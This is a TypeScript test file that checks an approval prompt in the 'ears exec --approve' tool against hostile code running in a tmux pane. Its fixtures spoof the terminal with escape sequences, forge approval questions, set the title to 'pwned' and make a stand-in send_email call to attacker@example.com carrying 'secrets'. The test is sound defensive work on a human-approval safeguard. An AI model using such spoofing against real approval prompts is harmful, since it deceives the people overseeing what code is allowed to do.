/**
 * The terminal approval question against a hostile body, in a real terminal: `ears exec --approve` runs in
 * an 80x30 tmux pane, and the test reads the screen as a person would and types the answers. The body
 * colours the screen black on black and leaves it so, pads its stderr so that 80-column wrapping puts a
 * forged question at the start of a row, moves the cursor (CUU, CUP, save/restore), clears the screen,
 * enters the alternate screen, sets the title, overwrites with CR, and prints forged questions as log
 * lines after its real call. Whatever it does, the real question is the last thing on the screen, drawn
 * plainly, naming the real call; "y" approves that call only, and a "y" typed at a forged question
 * before the real one was asked answers nothing. The capabilities record their calls in a file, so "it
 * ran" and "it never ran" are the test's own observations.
 */
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { EARS } from "../helpers/spawn-ears.js";
import { HAS_TMUX, rowsOf, styledRows, TmuxPane } from "../helpers/tmux.js";

const QUESTION_HEAD = "ears: approval needed; the body's output is held until you answer";
const REAL_CALL = 'ears: the body calls send_email {"to":"attacker@example.com","text":"secrets"}';
const REAL_PROMPT = "ears: allow this call to send_email? [y/N] ";

/** Body source that defines `forge(name, args)`: ears' question for another call, each line padded to a full row. */
const FORGE =
  "const E = '\\x1b';\n" +
  "const w = (text) => process.stderr.write(text);\n" +
  "const forge = (name, args) =>\n" +
  `  ${JSON.stringify(QUESTION_HEAD)}.padEnd(80) + ('ears: the body calls ' + name + ' ' + args).padEnd(80) +\n` +
  "  'ears: allow this call to ' + name + '? [y/N] ';\n" +
  // The test's signal: the capability "ready" says whether the file GO exists (a body has no fs of its own).
  "const waitFor = async (path) => {\n" +
  "  while ((await ears.call('ready', { path })).structured !== true) await new Promise((wake) => setTimeout(wake, 20));\n" +
  "};\n";

describe.runIf(process.platform === "linux" && HAS_TMUX)(
  "ears exec --approve in a real terminal (tmux, 80x30) against a hostile body",
  { timeout: 180_000 },
  () => {
    let dir: string;
    let pane: TmuxPane | undefined;
    const calls = () => (existsSync(join(dir, "calls.ndjson")) ? readFileSync(join(dir, "calls.ndjson"), "utf8") : "");
    const callNames = () =>
      calls()
        .split("\n")
        .filter(Boolean)
        .map((line) => (JSON.parse(line) as { name: string }).name);

    beforeAll(() => {
      dir = mkdtempSync(join(tmpdir(), "ears-approve-tmux-"));
      writeFileSync(
        join(dir, "caps.mjs"),
        `import { appendFileSync, existsSync } from "node:fs";\n` +
          `const file = ${JSON.stringify(join(dir, "calls.ndjson"))};\n` +
          `const record = (name) => (args) => (appendFileSync(file, JSON.stringify({ name, args }) + "\\n"), "done");\n` +
          `export const send_email = record("send_email");\nexport const read = record("read");\nexport const note = record("note");\n` +
          `export const ready = ({ path }) => existsSync(path);\n`,
      );
    });
    afterEach(() => {
      pane?.kill();
      pane = undefined;
      for (const file of ["calls.ndjson", "go"]) rmSync(join(dir, file), { force: true });
    });
    afterAll(() => rmSync(dir, { recursive: true, force: true }));

    const start = (body: string) => {
      writeFileSync(join(dir, "body.js"), `const GO = ${JSON.stringify(join(dir, "go"))};\n${FORGE}${body}`);
      pane = new TmuxPane(
        [
          process.execPath,
          EARS,
          "exec",
          "--no-sandbox",
          "--capabilities",
          "caps.mjs",
          "--allow",
          "send_email,read,note,ready",
          "--approve",
          "send_email,read",
          "--code-file",
          "body.js",
        ],
        { cwd: dir },
      );
      return pane;
    };

    /** The real question is the last thing on the screen, plainly drawn, with the cursor where the answer goes. */
    const expectRealQuestionLast = (terminal: TmuxPane, screen: string) => {
      const rows = rowsOf(screen);
      expect(rows.slice(-3)).toEqual([QUESTION_HEAD, REAL_CALL, REAL_PROMPT.trimEnd()]);
      const state = terminal.state();
      expect({ x: state.cursorX, y: state.cursorY }).toEqual({ x: REAL_PROMPT.length, y: rows.length - 1 });
      expect(state.cursorVisible).toBe(true);
      expect(state.alternateScreen).toBe(false);
      expect(state.title).not.toContain("pwned");
      // Drawn with no colour or style, whatever the body left set above.
      expect(styledRows(terminal.screenWithAttributes()).slice(rows.length - 3, rows.length)).toEqual([false, false, false]);
    };

    it(
      "colour, wrap, cursor moves, clear, alternate screen, title, CR, forged logs: the real question is last, y approves it only",
      { timeout: 180_000 },
      async () => {
        const terminal = start(
          // Black on black, never reset, padded so wrapping puts the forged question at the start of a row.
          "w(E + '[30;40m' + 'x'.repeat(71) + forge('read', '{\"path\":\"README.md\"}'));\n" +
            // Cursor up, to the top left, save and restore, clear the screen and scrollback, reset, alternate
            // screen, title, C1 CSI, hidden cursor, CR over the row, a right-to-left override, and again a forgery.
            "w(E + '[5A' + E + '[1;1H' + E + '7' + E + '[s' + E + '8' + E + '[u' + E + '[2J' + E + '[3J' + E + 'c' + E + '[?1049h' +\n" +
            "  E + ']0;pwned\\x07' + '\\x9b2J' + E + '[?25l' + '\\rears: ' + '\\u202e' + forge('read', '{}') + '\\n');\n" +
            // The same through the log: a log line that leaves black on black open and forges the question.
            "console.log(E + '[30;40m' + forge('read', '{}'));\n" +
            "const pending = ears.call('send_email', { to: 'attacker@example.com', text: 'secrets' });\n" +
            // Once the question is open (the test creates GO): forgeries as log lines, then a call that needs no
            // approval. The log lines travel before that call, so once it ran, they have reached ears.
            "await waitFor(GO);\n" +
            "console.log('after-the-question ' + E + '[2J' + E + '[30;40m' + forge('read', '{}'));\n" +
            "process.stderr.write('stderr-after-the-question ' + E + '[1;1H' + forge('read', '{}') + '\\n');\n" +
            "await ears.call('note', {});\n" +
            "const result = await pending;\n" +
            "return result.status;\n",
        );
        await terminal.waitFor("the real question", (screen) => screen.includes(REAL_PROMPT.trimEnd()));
        writeFileSync(join(dir, "go"), "");
        await terminal.waitFor("the note call", () => callNames().includes("note"));
        const screen = terminal.screen();
        expectRealQuestionLast(terminal, screen);
        // What the body wrote once the question was open waits for the answer.
        expect(screen).not.toContain("after-the-question");
        expect(callNames()).toEqual(["note"]);

        terminal.type("y");
        const after = await terminal.waitFor("the end of the run", (text) => text.includes("[exit "));
        expect(after).toContain("[exit 0]");
        // The real call ran, once; the forged one never did.
        expect(callNames()).toEqual(["note", "send_email"]);
        expect(JSON.parse(calls().split("\n")[1]!)).toEqual({ name: "send_email", args: { to: "attacker@example.com", text: "secrets" } });
        // The held log line came after the answer, nothing of it lost, escaped.
        const rows = rowsOf(after);
        const answered = rows.findIndex((row) => row === `${REAL_PROMPT}y`);
        expect(answered).toBeGreaterThanOrEqual(0);
        const held = rows.findIndex((row) => row.includes("after-the-question"));
        expect(held).toBeGreaterThan(answered);
        expect(rows[held]).toMatch(/^\[info\] after-the-question \\x1b\[2J/);
      },
    );

    it("a y typed at a forged question before the real one was asked answers nothing", { timeout: 180_000 }, async () => {
      const terminal = start(
        "w(E + '[30;40m' + 'x'.repeat(71) + forge('read', '{\"path\":\"README.md\"}'));\n" +
          "await waitFor(GO);\n" +
          "const result = await ears.call('send_email', { to: 'attacker@example.com', text: 'secrets' });\n" +
          "return result.status;\n",
      );
      await terminal.waitFor("the forged question", (screen) => screen.includes("ears: allow this call to read? [y/N]"));
      // The person answers the forgery; the terminal echoes it.
      terminal.type("y");
      await terminal.waitFor("the echoed answer", (screen) => screen.includes("ears: allow this call to read? [y/N] y"));
      writeFileSync(join(dir, "go"), "");
      const screen = await terminal.waitFor("the real question", (text) => text.includes(REAL_PROMPT.trimEnd()));
      expectRealQuestionLast(terminal, screen);
      terminal.type("n");
      const after = await terminal.waitFor("the end of the run", (text) => text.includes("[exit "));
      expect(rowsOf(after)).toContain(`${REAL_PROMPT}n`);
      expect(callNames()).toEqual([]);
    });

    it(
      "a very long argument: the question still ends on a row naming the call, and the cursor waits there",
      { timeout: 180_000 },
      async () => {
        const terminal = start(
          "w(E + '[30;40m' + 'x'.repeat(71) + forge('read', '{}'));\n" +
            "const result = await ears.call('send_email', { to: 'x', text: 'ears: allow this call to read? [y/N] '.repeat(150) });\n" +
            "return result.status;\n",
        );
        const screen = await terminal.waitFor("the real question", (text) => text.includes(REAL_PROMPT.trimEnd()));
        const rows = rowsOf(screen);
        expect(rows.at(-1)).toBe(REAL_PROMPT.trimEnd());
        expect(rows.slice(0, -1).join("")).toMatch(/…\(\d+ more characters not shown\)$/);
        expect(terminal.state()).toMatchObject({ cursorX: REAL_PROMPT.length, cursorY: rows.length - 1, cursorVisible: true });
        terminal.type("n");
        await terminal.waitFor("the end of the run", (text) => text.includes("[exit "));
        expect(callNames()).toEqual([]);
      },
    );

    it("a result printed after the question leaves no colour open: ears' last notes are drawn plainly", async () => {
      const terminal = start(
        "const result = await ears.call('send_email', { to: 'attacker@example.com', text: 'secrets' });\n" +
          "return Outcome.success(E + '[30;40m' + 'x'.repeat(71) + forge('read', '{}') + E + '[30;40m');\n",
      );
      await terminal.waitFor("the real question", (text) => text.includes(REAL_PROMPT.trimEnd()));
      terminal.type("n");
      const after = await terminal.waitFor("the end of the run", (text) => text.includes("[exit "));
      expect(callNames()).toEqual([]);
      // The result's forged question is shown, but the rows from ears' last note on have no colour.
      const rows = rowsOf(after);
      const note = rows.findLastIndex((row) => row.startsWith("ears: "));
      expect(rows[note]).toMatch(/^ears: (cpu|memory)/);
      expect(styledRows(terminal.screenWithAttributes()).slice(note, rows.length)).toEqual(rows.slice(note).map(() => false));
    });
  },
);
